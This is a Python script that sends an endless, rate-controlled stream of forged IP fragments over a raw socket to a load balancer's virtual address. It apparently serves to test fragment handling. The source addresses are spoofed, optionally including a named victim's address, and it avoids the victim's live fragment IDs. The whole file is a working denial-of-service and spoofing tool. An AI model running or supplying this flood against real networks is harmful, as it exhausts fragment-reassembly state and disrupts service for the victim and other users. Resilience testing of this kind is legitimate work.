#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Sends later fragments to the VIP whose first ones never come, in the name of addresses that nobody has and,
if one is told, of a victim, in turn. Runs until it is ended; prints how many it has sent then."""

import argparse
import ipaddress
import random
import signal
import socket
import struct
import sys
import time

from fragments_frames import ETH_IPV4, ETH_IPV6, IPV6_FRAGMENT, UDP, datagrams_of

TURN = 0.01  # seconds
PLACE = 1480  # of the fragments in their datagrams, bytes
DATA = b"x" * 16
STRANGERS = {4: "100.64.0.0", 6: "2001:db8:bad::"}


def checksum(header):
    total = sum(struct.unpack("!10H", header))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def ipv4(source, vip, ident):
    """Ends in the middle of the datagram: more fragments follow."""
    field = 0x2000 | PLACE // 8
    head = [0x45, 0, 20 + len(DATA), ident & 0xFFFF, field, 64, UDP, 0, source.packed, vip.packed]
    head[7] = checksum(struct.pack("!BBHHHBBH4s4s", *head))
    return struct.pack("!H", ETH_IPV4) + struct.pack("!BBHHHBBH4s4s", *head) + DATA


def ipv6(source, vip, ident):
    header = struct.pack("!IHBB", 0x60000000, 8 + len(DATA), IPV6_FRAGMENT, 64) + source.packed + vip.packed
    return struct.pack("!H", ETH_IPV6) + header + struct.pack("!BBHI", UDP, 0, PLACE | 1, ident) + DATA


def invented(options):
    """Frames without end. The victim's datagrams under way are to come through: their ids are left out."""
    dice = random.Random(2)
    vip = ipaddress.ip_address(options.vip)
    victim = ipaddress.ip_address(options.victim) if options.victim else None
    strangers = int(ipaddress.ip_address(STRANGERS[vip.version]))
    taken = {ident for path in options.avoid for _, ident in datagrams_of(path)}
    macs = bytes.fromhex(options.mac.replace(":", "")) + b"\x02\0\0\0\x66\x01"
    build = ipv4 if vip.version == 4 else ipv6
    while True:
        ident = dice.randrange(1 << (16 if vip.version == 4 else 32))
        if ident in taken:
            continue
        if victim:
            yield macs + build(victim, vip, ident)
        yield macs + build(ipaddress.ip_address(strangers + dice.randrange(1 << 20)), vip, ident)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--rate", type=int, required=True, help="frames a second")
    parser.add_argument("--avoid", action="append", default=[], metavar="PCAP", help="the victim's datagrams")
    parser.add_argument("interface")
    parser.add_argument("mac", help="the director's")
    parser.add_argument("vip")
    parser.add_argument("victim", nargs="?", help="its address")
    options = parser.parse_args()
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    sent, begin, frames = 0, time.monotonic(), invented(options)
    try:
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
            wire.bind((options.interface, 0))
            while True:
                while sent < (time.monotonic() - begin) * options.rate:
                    sent += 1  # before: SIGTERM may come between
                    wire.send(next(frames))
                time.sleep(TURN)
    finally:
        print(sent)


if __name__ == "__main__":
    sys.exit(main())
